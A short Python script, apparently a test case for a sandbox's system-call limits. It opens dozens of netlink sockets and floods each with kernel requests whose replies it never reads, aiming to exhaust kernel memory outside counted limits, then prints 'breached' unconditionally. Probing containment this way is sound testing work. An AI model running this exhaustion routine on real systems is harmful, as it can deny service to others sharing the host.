"""Fills memory with answers of the kernel that it never reads; no limit counts them.

walls: system_calls
success: the script prints breached
"""

import contextlib
import socket
import struct

ASKED = struct.pack("=IHHII", 32, 18, 5, 1, 0) + struct.pack("=BBHiII", 0, 0, 0, 1, 0, 0)
held = []
for _ in range(40):
    talk = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 0)
    talk.bind((0, 0))
    talk.setblocking(False)
    with contextlib.suppress(OSError):
        for _ in range(300):
            talk.send(ASKED)
    held.append(talk)
print("breached")
